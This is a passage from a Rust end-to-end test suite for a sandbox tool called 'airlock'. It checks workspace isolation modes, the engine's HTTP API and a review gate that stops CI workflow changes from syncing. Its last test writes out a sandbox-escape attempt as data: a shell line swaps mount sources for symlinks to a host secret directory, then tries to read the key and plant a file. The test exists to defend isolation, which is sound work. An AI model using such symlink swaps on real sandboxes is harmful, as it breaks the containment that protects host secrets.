    ok(a, label, &["fetch", "cl", "--accept"]);
    let _ = a.run(&["sync", "cl", "--accept"]);
    assert!(
        !outside.join("pwned.txt").exists(),
        "{label}: clone: written through a link"
    );
    host_uses(a, &p, label);
    assert!(!canary.exists(), "{label}: clone: a canary fired");
    ok(a, label, &["rm", "--force", "cl"]);
    assert_eq!(
        fingerprint(&outside),
        outside_before,
        "{label}: clone: a file outside changed"
    );

    // overlay: the checkout is never modified at all.
    let before = fingerprint(&p);
    ok(
        a,
        label,
        &["create", "ov", "--workspace", "overlay", "--net", "off"],
    );
    ok(a, label, &["start", "ov"]);
    ok(
        a,
        label,
        &[
            "exec",
            "ov",
            "--",
            "sh",
            "-c",
            &hostile(&fire, &outside, false),
        ],
    );
    ok(a, label, &["stop", "ov"]);
    let out = ok(
        a,
        label,
        &[
            "run",
            "--workspace",
            "overlay",
            "--net",
            "off",
            "--",
            "sh",
            "-c",
            &hostile(&fire, &outside, false),
        ],
    );
    let _ = out;
    assert_eq!(
        fingerprint(&p),
        before,
        "{label}: overlay: the checkout changed"
    );
    host_uses(a, &p, label);
    assert!(!canary.exists(), "{label}: overlay: a canary fired");
    ok(a, label, &["rm", "--force", "ov"]);

    // bind: prevented where the kernel can, undone on the way out.
    let out = a.run(&[
        "run",
        "--workspace",
        "bind",
        "--net",
        "off",
        "--",
        "sh",
        "-c",
        &hostile(&fire, &outside, false),
    ]);
    assert_eq!(out.code(), 121, "{label}: bind: {}", out.describe());
    host_uses(a, &p, label);
    assert!(!canary.exists(), "{label}: bind: a canary fired");

    assert_eq!(
        fingerprint(&outside),
        outside_before,
        "{label}: a file outside the checkout changed"
    );
    let home_after: Vec<_> = fingerprint(&home)
        .into_iter()
        .filter(|(k, v)| home_before.get(k) != Some(v))
        .filter(|(k, _)| !k.starts_with(".config/airlock") && !k.starts_with(".local/state"))
        .collect();
    assert!(
        home_after.is_empty(),
        "{label}: files in HOME changed: {home_after:?}"
    );
}

#[test]
fn canary_harness_every_mode_every_way_back() {
    if !e2e("canary_harness_every_mode_every_way_back") {
        return;
    }
    both_modes(canary_harness);
}

// ---------------------------------------------------------------------------------------------
// The API: a client of the engine's HTTP API gets a clone workspace made too

fn engine_socket(a: &Airlock) -> PathBuf {
    let dir = a.dir.join("runtime/airlock");
    std::fs::read_dir(&dir)
        .expect("runtime dir")
        .flatten()
        .map(|e| e.path())
        .find(|p| p.extension().is_some_and(|x| x == "sock"))
        .expect("engine socket")
}

/// One request to the engine over its socket: (status, body).
fn http(a: &Airlock, method: &str, path: &str, body: Option<&str>) -> (u16, String) {
    let sock = engine_socket(a).display().to_string();
    let url = format!("http://airlock{path}");
    let mut args = vec![
        "-sS",
        "--unix-socket",
        &sock,
        "-X",
        method,
        "-w",
        "\n%{http_code}",
    ];
    if let Some(b) = body {
        args.extend(["-H", "Content-Type: application/json", "-d", b]);
    }
    args.push(&url);
    let out = common::run_with_deadline(a.command_with("curl", &args), None, common::DEADLINE);
    let (text, code) = out.stdout.trim_end().rsplit_once('\n').unwrap_or(("", "0"));
    (code.parse().unwrap_or(0), text.to_string())
}

fn api_create_makes_the_clone(a: &Airlock, label: &str) {
    let _g = EngineGuard(a);
    let p = project(a);
    // A spec as the CLI resolves it; from there on, the engine's HTTP API alone.
    ok(a, label, &["create", "cli", "--net", "off"]);
    let spec_text =
        std::fs::read_to_string(a.state_dir().join("sandboxes/cli/spec.json")).expect("spec");
    let mut spec: serde_json::Value = serde_json::from_str(&spec_text).expect("json");
    spec["name"] = "viaapi".into();
    spec["hostname"] = "viaapi".into();
    let body = serde_json::json!({"name": "viaapi", "spec": spec}).to_string();
    let (code, text) = http(a, "POST", "/v1/sandboxes", Some(&body));
    assert_eq!(code, 201, "{label}: create: {text}");
    let ws = a.state_dir().join("sandboxes/viaapi/workspace");
    assert!(
        ws.join(".git").is_dir(),
        "{label}: the engine made no clone"
    );
    let (code, text) = http(a, "POST", "/v1/sandboxes/viaapi/start", Some("{}"));
    assert_eq!(code, 200, "{label}: start: {text}");
    // exec: NDJSON output events, then the exit status.
    let exec = serde_json::json!({
        "argv": ["sh", "-c", "git rev-parse --abbrev-ref HEAD && echo api > api.txt && git add -A && git -c user.email=a@b.invalid -c user.name=api commit -qm api && echo done"],
        "workdir": ".",
    })
    .to_string();
    let (code, text) = http(a, "POST", "/v1/sandboxes/viaapi/exec", Some(&exec));
    assert_eq!(code, 200, "{label}: exec: {text}");
    let events: Vec<serde_json::Value> = text
        .lines()
        .map(|l| serde_json::from_str(l).expect("an NDJSON line"))
        .collect();
    let stdout: String = events
        .iter()
        .filter(|e| e["stream"] == "stdout")
        .filter_map(|e| e["data"].as_str())
        .collect();
    assert_eq!(stdout, "airlock/viaapi\ndone\n", "{label}: {text}");
    assert_eq!(
        events.last().map(|e| e["exit"].clone()),
        Some(0.into()),
        "{label}: {text}"
    );
    let (code, text) = http(
        a,
        "POST",
        "/v1/sandboxes/viaapi/exec",
        Some(r#"{"argv": ["sh", "-c", "exit 7"]}"#),
    );
    assert_eq!(
        (code, text.lines().last()),
        (200, Some(r#"{"exit":7}"#)),
        "{label}"
    );
    // diff, fetch (gated), sync, all over HTTP.
    let (code, text) = http(a, "GET", "/v1/sandboxes/viaapi/diff", None);
    assert_eq!(code, 200, "{label}: diff: {text}");
    let d: serde_json::Value = serde_json::from_str(&text).expect("diff json");
    assert_eq!(d["commits"], 1, "{label}: {d}");
    assert_eq!(d["files"][0]["path"], "api.txt", "{label}: {d}");
    // The same operation as one action, through the engine's one dispatch.
    let (code, text) = http(
        a,
        "POST",
        "/v1/actions",
        Some(r#"{"action": "diff", "name": "viaapi"}"#),
    );
    assert_eq!(code, 200, "{label}: action: {text}");
    let act: serde_json::Value = serde_json::from_str(&text).expect("action json");
    assert_eq!(
        (&act["data"], &act["value"]),
        (&"diff".into(), &d),
        "{label}: {act}"
    );
    let (code, text) = http(a, "POST", "/v1/actions", Some(r#"{"action": "list"}"#));
    assert_eq!(code, 200, "{label}: {text}");
    assert!(text.contains("\"viaapi\""), "{label}: {text}");
    let (code, text) = http(a, "POST", "/v1/sandboxes/viaapi/fetch", None);
    assert_eq!(code, 200, "{label}: fetch: {text}");
    assert_eq!(
        git(a, &["log", "-1", "--format=%s", "airlock/viaapi"]),
        "api\n",
        "{label}"
    );
    // A gated change: 409 needs_review naming it; accepted, it comes.
    let gated = serde_json::json!({"argv": ["sh", "-c", "mkdir -p .github/workflows && echo on: push > .github/workflows/x.yml && git add -A && git -c user.email=a@b.invalid -c user.name=api commit -qm ci"]}).to_string();
    let (code, _) = http(a, "POST", "/v1/sandboxes/viaapi/exec", Some(&gated));
    assert_eq!(code, 200, "{label}");
    let (code, text) = http(a, "POST", "/v1/sandboxes/viaapi/sync", Some("{}"));
    assert_eq!(code, 409, "{label}: sync not gated: {text}");
    let e: serde_json::Value = serde_json::from_str(&text).expect("error json");
    assert_eq!(e["kind"], "needs_review", "{label}: {e}");
    assert_eq!(e["code"], 121, "{label}: {e}");
    assert!(
        e["error"]
            .as_str()
            .is_some_and(|m| m.contains(".github/workflows/x.yml")),
        "{label}: {e}"
    );
    // What it refused, as data (`detail`): the CLI lists the findings from it.
    assert_eq!(e["detail"]["verb"], "sync", "{label}: {e}");
    assert_eq!(
        e["detail"]["summary"], "sync stopped by the review gate",
        "{label}: {e}"
    );
    assert!(
        e["detail"]["findings"]
            .as_array()
            .is_some_and(|f| f.iter().any(|f| f["path"] == ".github/workflows/x.yml")),
        "{label}: {e}"
    );
    // The CLI's sync and fetch go through the engine: the refusal listed from that detail,
    // the review journaled once per operation (by the engine).
    let journal = a.state_dir().join("sandboxes/viaapi/audit.jsonl");
    let reviews = |op: &str| {
        std::fs::read_to_string(&journal)
            .unwrap_or_default()
            .lines()
            .filter_map(|l| serde_json::from_str::<serde_json::Value>(l).ok())
            .filter(|v| v["category"] == "review" && v["op"] == op)
            .count()
    };
    let (syncs, fetches) = (reviews("sync"), reviews("fetch"));
    let out = a.run(&["sync", "viaapi"]);
    assert_eq!(out.code(), 121, "{label}: {}", out.describe());
    assert!(
        out.stderr.contains("needs review: 1 flagged change(s)")
            && out.stderr.contains(".github/workflows/x.yml")
            && out.stderr.contains("sync stopped by the review gate")
            && out.stderr.contains("airlock sync viaapi --accept"),
        "{label}: {}",
        out.describe()
    );
    let out = a.run(&["fetch", "viaapi", "--json"]);
    assert_eq!(out.code(), 121, "{label}: {}", out.describe());
    let fj: serde_json::Value = serde_json::from_str(&out.stdout).expect("fetch --json");
    assert_eq!(
        (&fj["needs_accept"], &fj["fetched"], &fj["name"]),
        (&true.into(), &false.into(), &"viaapi".into()),
        "{label}: {fj}"
    );
    assert_eq!(
        fj["findings"][0]["path"], ".github/workflows/x.yml",
        "{label}: {fj}"
    );
    assert_eq!(
        (reviews("sync"), reviews("fetch")),
        (syncs + 1, fetches + 1),
        "{label}: the review is journaled once per operation"
    );
    let (code, text) = http(
        a,
        "POST",
        "/v1/sandboxes/viaapi/sync",
        Some(r#"{"accept": true}"#),
    );
    assert_eq!(code, 200, "{label}: sync: {text}");
    assert_eq!(
        std::fs::read_to_string(p.join("api.txt")).expect("synced"),
        "api\n",
        "{label}"
    );
    let (code, _) = http(a, "DELETE", "/v1/sandboxes/viaapi?force=true", None);
    assert_eq!(code, 200, "{label}");
    ok(a, label, &["rm", "--force", "cli"]);
}

#[test]
fn an_api_client_gets_a_clone_workspace() {
    if !e2e("an_api_client_gets_a_clone_workspace") {
        return;
    }
    both_modes(api_create_makes_the_clone);
}

// ---------------------------------------------------------------------------------------------
// A mount source the sandbox turned into a symbolic link

/// A named sandbox's `--ro` and `--rw` mount sources lie inside a directory it may write
/// (`--rw P:/rw`): it replaces them with symbolic links to a host directory it was never
/// given. Its next start must not follow them — neither the read-only mount (the secret would
/// be readable inside) nor the writable one (the sandbox could write there): the start is
/// refused, saying which source changed, and the host directory stays untouched.
fn swapped_mount_sources(a: &Airlock, label: &str) {
    let base = a.cwd.join("swap");
    let proj = base.join("proj");
    let secret = base.join("secret");
    write(&proj.join("data/f"), "public\n");
    write(&proj.join("out/.keep"), "");
    write(&secret.join("key"), "TOPSECRET\n");
    give(a, &base);
    let name = "swapsrc";
    let rw = format!("{}:/rw", proj.display());
    let ro = format!("{}:/data", proj.join("data").display());
    let out_bind = format!("{}:/out", proj.join("out").display());
    ok(
        a,
        label,
        &[
            "create",
            name,
            "--workspace",
            "none",
            "--net",
            "off",
            "--rw",
            &rw,
            "--ro",
            &ro,
            "--rw",
            &out_bind,
        ],
    );
    ok(a, label, &["start", name]);
    let got = ok(a, label, &["exec", name, "--", "cat", "/data/f"]);
    assert_eq!(got.stdout, "public\n", "{label}");
    let plant = format!(
        "rm -rf /rw/data /rw/out && ln -s {s} /rw/data && ln -s {s} /rw/out",
        s = secret.display()
    );
    ok(a, label, &["exec", name, "--", "sh", "-c", &plant]);
    ok(a, label, &["stop", name]);
    let started = a.run(&["start", name]);
    let leaked = if started.code() == 0 {
        let r = a.run(&[
            "exec",
            name,
            "--",
            "sh",
            "-c",
            "cat /data/key; echo planted > /out/planted",
        ]);
        r.stdout.contains("TOPSECRET")
    } else {
        false
    };
    let _ = a.run(&["rm", "--force", name]);
    assert!(
        !leaked,
        "{label}: the read-only mount followed the planted link: {}",
        started.describe()
    );
    assert!(
        !secret.join("planted").exists(),
        "{label}: the writable mount followed the planted link"
    );
    // A policy refusal, as a run's: 121 (README "Exit codes"), not a failed start's 125.
    assert_eq!(started.code(), 121, "{label}: {}", started.describe());
    assert!(
        started.stderr.contains("symbolic link")
            && started
                .stderr
                .contains(&proj.join("data").display().to_string()),
        "{label}: the refusal does not say which source changed: {}",
        started.describe()
    );
    assert_eq!(
        std::fs::read_to_string(secret.join("key")).ok().as_deref(),
        Some("TOPSECRET\n"),
        "{label}"
    );
}

crate::rootful_and_rootless!(
    a_mount_source_swapped_for_a_symlink_is_not_followed_rootful,
    a_mount_source_swapped_for_a_symlink_is_not_followed_rootless,
    swapped_mount_sources
);
